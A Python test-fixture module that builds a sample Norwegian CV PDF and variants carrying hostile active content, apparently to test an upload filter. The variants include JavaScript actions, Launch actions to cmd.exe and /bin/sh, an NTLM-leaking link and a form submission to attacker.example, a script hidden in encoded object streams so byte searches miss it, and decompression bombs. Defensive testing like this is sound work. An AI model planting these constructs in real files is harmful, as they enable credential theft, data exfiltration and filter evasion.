"""PDFs for the upload tests, built with pikepdf from their parts: a plain CV, and the same CV
carrying each kind of active content an attacker may hide in one.

pikepdf (qpdf) always writes object streams Flate-compressed, so ``with_object_stream``
assembles that one construct itself: a catalogue and a JavaScript action inside an object
stream under any filter chain, found through a cross-reference stream, exactly as a reader
finds them. Every sample is opened with pikepdf in the tests before it is uploaded, to show
it says what the test claims it says.
"""

import base64
import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SCRIPT = "app.alert('pwned')"
SCRIPT_ACTION = {"/S": Name.JavaScript, "/JS": String(SCRIPT)}


def to_bytes(pdf: pikepdf.Pdf, **save) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def _image(pdf: pikepdf.Pdf, mode: str, size: tuple[int, int], fmt: str) -> pikepdf.Stream:
    """An image XObject: a JPEG kept as it is (DCTDecode, as scanners write them) or raw
    pixels compressed with Flate."""
    grey = Image.linear_gradient("L").resize(size)
    picture = Image.merge("RGB", (grey, grey.rotate(90), grey)) if mode == "RGB" else grey
    colour = Name.DeviceRGB if mode == "RGB" else Name.DeviceGray
    stream = pikepdf.Stream(pdf, b"")
    if fmt == "jpeg":
        buffer = io.BytesIO()
        picture.save(buffer, "JPEG", quality=80)
        stream.write(buffer.getvalue(), filter=Name.DCTDecode)
    else:
        stream.write(zlib.compress(picture.tobytes()), filter=Name.FlateDecode)
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width, stream.Height = size
    stream.ColorSpace, stream.BitsPerComponent = colour, 8
    return stream


def page_lines(number: int) -> list[str]:
    return [
        f"Nora Nordmann - CV, side {number}",
        "Cand.med. Universitetet i Oslo 2027",
        "Turnus: Sykehuset Ost, medisinsk klinikk",
    ]


def cv(pages: int = 3) -> pikepdf.Pdf:
    """A CV of ``pages`` A4 pages: text in Helvetica and Times (standard fonts), a photo as
    JPEG and a signature as a Flate-compressed grey image on the first page."""
    pdf = pikepdf.new()
    fonts = Dictionary(
        F1=pdf.make_indirect(
            Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        ),
        F2=pdf.make_indirect(
            Dictionary(Type=Name("/Font"), Subtype=Name.Type1, BaseFont=Name("/Times-Roman"))
        ),
    )
    photo = pdf.make_indirect(_image(pdf, "RGB", (40, 50), "jpeg"))
    signature = pdf.make_indirect(_image(pdf, "L", (60, 20), "flate"))
    for number in range(1, pages + 1):
        lines = page_lines(number)
        content = [b"BT /F1 16 Tf 72 770 Td (%s) Tj ET" % lines[0].encode()]
        content += [
            b"BT /F2 11 Tf 72 %d Td (%s) Tj ET" % (740 - 16 * i, line.encode())
            for i, line in enumerate(lines[1:])
        ]
        xobjects = Dictionary()
        if number == 1:
            content += [b"q 80 0 0 100 440 680 cm /Photo Do Q", b"q 120 0 0 40 72 600 cm /Sig Do Q"]
            xobjects = Dictionary(Photo=photo, Sig=signature)
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=fonts, XObject=xobjects)
        page.Contents = pdf.make_stream(b"\n".join(content))
    return pdf


def cv_bytes(pages: int = 3, **save) -> bytes:
    return to_bytes(cv(pages), **save)


def page_texts(data: bytes) -> list[list[str]]:
    """The text shown on each page (the strings of every Tj), in order."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return [
            [
                bytes(instruction.operands[0]).decode()
                for instruction in pikepdf.parse_content_stream(page, "Tj")
            ]
            for page in pdf.pages
        ]


def _link(pdf: pikepdf.Pdf, action: dict) -> pikepdf.Dictionary:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 700, 300, 720]),
            Border=Array([0, 0, 0]),
            A=Dictionary(action),
        )
    )


def _add_annotation(pdf: pikepdf.Pdf, annotation, page: int = 0) -> None:
    annots = pdf.pages[page].obj.get(Name.Annots)
    if annots is None:
        pdf.pages[page].obj.Annots = annots = pdf.make_indirect(Array())
    annots.append(annotation)


def _file_spec(pdf: pikepdf.Pdf, name: str, payload: bytes) -> pikepdf.Dictionary:
    embedded = pdf.make_stream(payload)
    embedded.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=embedded))
    )


# --- One constructor per kind of active content; each takes a CV and returns it -------------


def xfa_script(pdf):
    """An XFA form whose template runs a script, stored uncompressed (save with
    ``compress_streams=False``), as the old byte search never looked at it."""
    template = pdf.make_stream(
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="cv">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        + SCRIPT.encode()
        + b"</script></event></subform></template>"
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array(), XFA=Array([String("template"), template]), NeedAppearances=True
    )
    pdf.Root.NeedsRendering = True
    return pdf


def open_action_script(pdf):
    pdf.Root.OpenAction = Dictionary(SCRIPT_ACTION)
    return pdf


def open_action_script_stream(pdf):
    """The script in a Flate-compressed stream of its own, referenced from /JS."""
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode()))
    return pdf


def named_script(pdf):
    """Document-level JavaScript in the /Names tree, run when the file opens."""
    action = pdf.make_indirect(Dictionary(SCRIPT_ACTION))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))
    return pdf


def page_additional_actions(pdf):
    pdf.pages[0].obj.AA = Dictionary(
        O=Dictionary(SCRIPT_ACTION),
        C=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    return pdf


def document_additional_actions(pdf):
    pdf.Root.AA = Dictionary(WC=Dictionary(SCRIPT_ACTION))
    return pdf


def launch_link(pdf):
    _add_annotation(
        pdf,
        _link(
            pdf,
            {
                "/S": Name.Launch,
                "/F": String("cmd.exe"),
                "/Win": Dictionary(F=String("cmd.exe"), P=String("/c calc")),
            },
        ),
    )
    return pdf


def launch_open_action(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("/bin/sh"))
    return pdf


def remote_file_link(pdf):
    """GoToR to a file on another machine: the reader fetches it, handing over the
    Windows credentials on the way (an NTLM leak)."""
    _add_annotation(
        pdf,
        _link(pdf, {"/S": Name.GoToR, "/F": String(r"\\attacker.example\share\cv.pdf"), "/D": 0}),
    )
    return pdf


def script_chained_after_link(pdf):
    """A harmless web link whose /Next runs a script after it."""
    _add_annotation(
        pdf,
        _link(
            pdf,
            {
                "/S": Name.URI,
                "/URI": String("https://example.no/"),
                "/Next": Array([Dictionary(SCRIPT_ACTION)]),
            },
        ),
    )
    return pdf


def outline_script(pdf):
    """A bookmark that runs a script when clicked."""
    item = pdf.make_indirect(Dictionary(Title=String("CV"), A=Dictionary(SCRIPT_ACTION)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines
    return pdf


def embedded_files(pdf):
    """An attachment in the /EmbeddedFiles name tree, and a FileAttachment annotation
    carrying another file on the first page."""
    pdf.attachments["vedlegg.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 evil")
    _add_annotation(
        pdf,
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([72, 500, 92, 520]),
                FS=_file_spec(pdf, "attest.html", b"<script>alert(1)</script>"),
            )
        ),
    )
    return pdf


def associated_file(pdf):
    """PDF 2.0 associated files (/AF), as in PDF/A-3 and e-invoices."""
    pdf.Root.AF = Array([_file_spec(pdf, "data.xml", b"<x/>")])
    return pdf


def rich_media(pdf):
    flash = _file_spec(pdf, "cv.swf", b"FWS\x0a evil flash")
    _add_annotation(
        pdf,
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=Array([72, 300, 372, 500]),
                RichMediaContent=Dictionary(
                    Assets=Dictionary(Names=Array([String("cv.swf"), flash])),
                    Configurations=Array(
                        [
                            Dictionary(
                                Type=Name.RichMediaConfiguration,
                                Subtype=Name.Flash,
                                Instances=Array([Dictionary(Subtype=Name.Flash, Asset=flash)]),
                            )
                        ]
                    ),
                ),
                RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
            )
        ),
    )
    return pdf


def screen_rendition(pdf):
    _add_annotation(
        pdf,
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Screen,
                Rect=Array([72, 300, 372, 500]),
                A=Dictionary(S=Name.Rendition, OP=0, JS=String(SCRIPT)),
            )
        ),
    )
    return pdf


def submit_form(pdf):
    """A form button that sends the form (and with it the reader's details) to a server."""
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([72, 100, 172, 130]),
            A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/collect"), Flags=4),
        )
    )
    _add_annotation(pdf, widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return pdf


def web_link(pdf, uri: str = "https://www.linkedin.com/in/nora-nordmann"):
    """A plain link to a web page: passive, and kept."""
    _add_annotation(pdf, _link(pdf, {"/S": Name.URI, "/URI": String(uri)}))
    return pdf


def destination_open_action(pdf):
    """Open at the first page, fitted: a destination, not an action; kept."""
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    return pdf


ACTIVE = {
    "xfa-script": xfa_script,
    "open-action-script": open_action_script,
    "open-action-script-in-stream": open_action_script_stream,
    "named-script": named_script,
    "page-additional-actions": page_additional_actions,
    "document-additional-actions": document_additional_actions,
    "launch-link": launch_link,
    "launch-open-action": launch_open_action,
    "remote-file-link": remote_file_link,
    "script-chained-after-link": script_chained_after_link,
    "bookmark-script": outline_script,
    "embedded-files": embedded_files,
    "associated-file": associated_file,
    "rich-media": rich_media,
    "screen-rendition": screen_rendition,
    "submit-form": submit_form,
}


def cv_with(construct: Callable, **save) -> bytes:
    return to_bytes(construct(cv()), **save)


# --- Object streams under any filter --------------------------------------------------------


def ascii_hex(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def ascii85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def run_length(data: bytes) -> bytes:
    out = bytearray()
    for start in range(0, len(data), 128):
        chunk = data[start : start + 128]
        out += bytes([len(chunk) - 1]) + chunk
    return bytes(out + b"\x80")


def lzw(data: bytes) -> bytes:
    """LZW as PDF's LZWDecode reads it (EarlyChange 1), starting with a clear-table code."""
    table = {bytes([i]): i for i in range(256)}
    bits, nbits, out = 0, 0, bytearray()
    width, next_code = 9, 258

    def emit(code):
        nonlocal bits, nbits
        bits, nbits = (bits << width) | code, nbits + width
        while nbits >= 8:
            nbits -= 8
            out.append((bits >> nbits) & 0xFF)
        bits &= (1 << nbits) - 1

    emit(256)
    word = b""
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        emit(table[word])
        table[candidate] = next_code
        next_code += 1
        if next_code + 1 > (1 << width) and width < 12:
            width += 1
        word = bytes([byte])
    if word:
        emit(table[word])
    emit(257)
    if nbits:
        out.append((bits << (8 - nbits)) & 0xFF)
    return bytes(out)


ENCODERS = {
    "/ASCIIHexDecode": ascii_hex,
    "/ASCII85Decode": ascii85,
    "/LZWDecode": lzw,
    "/RunLengthDecode": run_length,
    "/FlateDecode": zlib.compress,
}


def with_object_stream(filters: list[str], compressed: dict[int, bytes] | None = None) -> bytes:
    """A one-page PDF 1.5 whose catalogue (1) and the JavaScript action it opens with (4)
    live inside object stream 5, encoded with ``filters`` (decoded in the order given), so
    neither ``/JavaScript`` nor ``/OpenAction`` appears anywhere in the file's bytes."""
    compressed = compressed or {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        4: b"<< /S /JavaScript /JS (" + SCRIPT.encode() + b") >>",
    }
    header, body = b"", b""
    for number, text in compressed.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    data = header + body
    for name in reversed(filters):
        data = ENCODERS[name](data)
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
        5: b"<< /Type /ObjStm /N %d /First %d /Filter [%s] /Length %d >>\nstream\n"
        % (len(compressed), len(header), " ".join(filters).encode(), len(data))
        + data
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, text in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]  # object 0, free
    for number in range(1, 7):
        if number in plain:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number in compressed:
            index = list(compressed).index(number)
            rows.append(b"\x02" + (5).to_bytes(4, "big") + index.to_bytes(2, "big"))
        else:  # 6: the cross-reference stream itself
            rows.append(b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    xref_at = len(out)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return bytes(out)


# --- Files that are not (only) a PDF --------------------------------------------------------


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", "<script>alert(1)</script>")
    return buffer.getvalue()


def flate_bomb(megabytes: int) -> bytes:
    """Flate data that inflates to ``megabytes`` MB of zeros (about 1000 : 1), made from one
    compressed megabyte repeated (a full flush makes each repeat independent of the last),
    so a gigabyte is built without compressing one."""
    block = bytes(1 << 20)
    packer = zlib.compressobj(9)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(block, checksum)
    # An empty final block, then the checksum of everything.
    return first + again * (megabytes - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")


def lzw_bomb(rounds: int) -> bytes:
    """LZW codes that each repeat the string just added to the table, one byte longer every
    time: about 7 MB from every 5 kB round."""
    bits, nbits, out, width = 0, 0, bytearray(), 9

    def emit(code):
        nonlocal bits, nbits
        bits, nbits = (bits << width) | code, nbits + width
        while nbits >= 8:
            nbits -= 8
            out.append((bits >> nbits) & 0xFF)
        bits &= (1 << nbits) - 1

    for _ in range(rounds):
        emit(256)  # clear the table
        width, code = 9, 258
        emit(0)
        while code < 4000:
            emit(code)
            code += 1
            if code + 1 >= (1 << width) and width < 12:
                width += 1
    emit(257)
    if nbits:
        out.append((bits << (8 - nbits)) & 0xFF)
    return bytes(out)


def with_bomb_image(megabytes: int, filters=(Name.FlateDecode,)) -> bytes:
    """A CV whose first page shows an 'image' that inflates to ``megabytes`` MB."""
    pdf = cv(1)
    raw = flate_bomb(megabytes)
    for name in filters[1:]:
        raw = zlib.compress(raw) if name == Name.FlateDecode else raw
    stream = pikepdf.Stream(pdf, b"")
    stream.write(raw, filter=Array(list(filters)))
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width, stream.Height, stream.ColorSpace = 1 << 14, megabytes * 64, Name.DeviceGray
    stream.BitsPerComponent = 8
    pdf.pages[0].Resources.XObject.Bomb = stream
    return to_bytes(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)
